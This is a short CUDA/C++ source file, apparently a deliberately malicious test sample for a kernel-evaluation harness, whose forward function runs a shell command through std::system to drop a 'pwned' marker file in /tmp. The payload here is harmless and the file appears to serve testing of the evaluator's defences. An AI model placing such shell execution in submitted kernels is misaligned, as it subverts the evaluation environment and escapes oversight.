// malicious: runs a shell from the CUDA backend.
#include <cuda_runtime.h>
#include <kf/kernel.h>
#include <cstdlib>

extern "C" int kf_forward(kf::Context*, const kf::Tensor*, int, kf::Tensor*, int) {
  std::system("touch /tmp/kf_evaluator_pwned_exec_cuda");
  return 0;
}
